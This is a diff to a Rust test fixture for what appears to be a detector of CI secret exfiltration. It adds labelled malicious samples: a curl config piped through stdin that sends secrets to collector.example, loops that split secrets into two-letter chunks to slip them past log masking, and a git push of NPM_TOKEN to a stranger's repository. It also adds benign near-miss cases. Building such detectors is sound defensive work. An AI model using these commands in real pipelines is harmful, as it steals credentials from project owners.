@@ -10,6 +10,65 @@ use ways::{Way, at_most_exposed, found};
 /// Each sends both secrets, or the one that is named, to the place that is named.
 const THEFTS: &[Way] = &[
     Way {
+        name: "settings of curl in a here-document behind a lone dash",
+        shell: "bash",
+        script: r##"curl -s -K - <<CFG
+url = "https://collector.example/in"
+header = "X-A: $A"
+header = "X-B: $B"
+CFG"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "file of words behind a lone dash",
+        shell: "bash",
+        script: r##"echo "data = $A$B" > settings
+curl https://collector.example/in -K - < settings"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "two letters at a time",
+        shell: "bash",
+        script: r##"for v in "$A" "$B"; do
+  for ((at = 0; at < ${#v}; at += 2)); do echo "${v:$at:2}"; done
+done"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "workflow-log",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "two letters at a time, places reckoned",
+        shell: "bash",
+        script: r##"for v in "$A" "$B"; do
+  for ((at = 0; at < ${#v}; at += 4)); do echo "${v:at:2}_${v:$((at + 2)):2}"; done
+done"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "workflow-log",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "push from a shallow clone by a login in the file",
+        shell: "bash",
+        script: r##"git clone -q --depth 1 -b inbox https://bot:password@github.com/stranger/inbox.git w
+cd w
+echo "$B" > out.txt
+git add -A
+git commit -qm x
+git push -q origin HEAD"##,
+        later: "",
+        secrets: &["NPM_TOKEN"],
+        place: "github.com",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "host from file",
         shell: "bash",
         script: r##"H=$(cat host.txt)
@@ -1589,6 +1648,30 @@ sh /tmp/s"##,
 
 /// What people do with their own secrets in the same words.
 const NEAR_MISSES: &[(&str, &str, &str)] = &[
+    (
+        "settings of curl for the own registry",
+        "bash",
+        r##"curl -s -K - <<CFG
+url = "https://upload.pypi.org/legacy/"
+user = "__token__:$A"
+CFG"##,
+    ),
+    (
+        "the beginning of it, and a piece of something else",
+        "bash",
+        r##"at=7
+echo "begins with ${A:0:4}, ${A:-nothing}, built from ${GITHUB_SHA:$at:4}""##,
+    ),
+    (
+        "push from a shallow clone of what was built",
+        "bash",
+        r##"git clone -q --depth 1 https://github.com/acme/site.git w
+cd w
+date > built.txt
+git add -A
+git commit -qm x
+git push -q origin HEAD"##,
+    ),
     (
         "ok heredoc config",
         "bash",
